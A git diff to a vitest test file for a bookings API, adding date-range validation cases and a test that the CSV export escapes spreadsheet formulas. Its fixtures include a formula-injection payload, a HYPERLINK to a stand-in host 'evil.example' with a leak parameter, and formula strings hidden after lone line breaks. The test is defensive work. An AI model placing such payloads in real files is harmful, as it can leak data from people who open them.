@@ -1,5 +1,6 @@
 import Database from 'better-sqlite3';
 import { databaseFile } from '@mt/service-kit/db';
+import { parse } from 'csv-parse/sync';
 import { afterEach, beforeEach, describe, expect, it } from 'vitest';
 import { aBooking, startBookings, type BookingsHarness } from './harness';
 
@@ -178,6 +179,11 @@ describe('GET /api/bookings/bookings/search, the admin’s search', () => {
       'travel_from=2026-02-30',
       'travel_from=2027-01-02&travel_to=2027-01-01',
       'booked_from=2026-11-12&booked_to=2026-11-11',
+      // Out of the years every date keeps (2000–2100): never a 500 (docs/decisions/058).
+      'booked_to=9999-12-31',
+      'booked_from=0001-01-01',
+      'travel_to=2101-01-01',
+      'travel_from=1999-12-31',
       'sort=price',
       'order=up',
       'page=0',
@@ -226,12 +232,74 @@ describe('GET /api/bookings/bookings/search, the admin’s search', () => {
     });
     expect(english.body.split('\r\n')[0]).toMatch(/^\uFEFFReference,Booked on,Customer,/);
     expect(english.body.split('\r\n')).toHaveLength(3);
-    const bad = await t.app.inject({
-      method: 'GET',
-      url: '/api/bookings/bookings/export.csv?lang=de',
-      cookies: t.admin,
+    for (const query of ['lang=de', 'booked_to=9999-12-31', 'travel_from=0001-01-01']) {
+      const bad = await t.app.inject({
+        method: 'GET',
+        url: `/api/bookings/bookings/export.csv?${query}`,
+        cookies: t.admin,
+      });
+      expect(bad.statusCode, query).toBe(400);
+      expect(bad.json().detail, query).toEqual(expect.any(String));
+    }
+  });
+});
+
+describe('the bookings CSV, read back as a spreadsheet reads it', () => {
+  /**
+   * Special requests a visitor may type: a lone LF and a lone CR, each followed by a formula, and
+   * no CRLF, quote or separator, any of which had the cell quoted already.
+   */
+  const REQUESTS = 'Vegetarian\n=SUM(1+1)*cmd\r@SUM(2)';
+
+  /** Rows as a spreadsheet splits them: at CRLF, and at a lone LF or CR outside quotes. */
+  function rowsOf(csv: string, language: 'en' | 'fr'): string[][] {
+    return parse(csv, {
+      bom: true,
+      delimiter: language === 'fr' ? ';' : ',',
+      record_delimiter: ['\r\n', '\n', '\r'],
+      relax_column_count: true,
     });
-    expect(bad.statusCode).toBe(400);
-    expect(bad.json().detail).toEqual(expect.any(String));
+  }
+
+  it('keeps a visitor’s text in its cells, escapes formulas, and an overpayment a number', async () => {
+    const id = await book(desert, {
+      customer_name: '=HYPERLINK("http://evil.example/?leak=1","Open")',
+      phone: '+212 661 223 344',
+      pickup_place: '-Riad Yasmine, Derb',
+      special_requests: REQUESTS,
+      number_of_participants: 1,
+    });
+    // €100 booked, €199 received: an overpayment of €99.
+    const payment = await t.app.inject({
+      method: 'POST',
+      url: `/api/bookings/bookings/${id}/payments`,
+      cookies: t.admin,
+      payload: { amount: 199, method: 'cash', received_on: '2026-11-20' },
+    });
+    expect(payment.statusCode, payment.body).toBe(201);
+
+    for (const language of ['en', 'fr'] as const) {
+      const response = await t.app.inject({
+        method: 'GET',
+        url: `/api/bookings/bookings/export.csv?lang=${language}`,
+        cookies: t.admin,
+      });
+      expect(response.statusCode).toBe(200);
+      const rows = rowsOf(response.body, language);
+      expect(rows, language).toHaveLength(2);
+      const [header, row] = rows as [string[], string[]];
+      expect(row, language).toHaveLength(header.length);
+      const amount = (text: string) => (language === 'fr' ? text.replace('.', ',') : text);
+      expect(row.slice(2, 5)).toEqual([
+        `'=HYPERLINK("http://evil.example/?leak=1","Open")`,
+        'sophie@example.fr',
+        "'+212 661 223 344",
+      ]);
+      expect(row.slice(10, 13)).toEqual([amount('100.00'), amount('199.00'), amount('-99.00')]);
+      expect(row.slice(14)).toEqual(["'-Riad Yasmine, Derb", REQUESTS]);
+      // The balance is written bare: a number to the spreadsheet, not the text `'-99.00`.
+      const separator = language === 'fr' ? ';' : ',';
+      expect(response.body).toContain(`${separator}${amount('-99.00')}${separator}`);
+    }
   });
 });
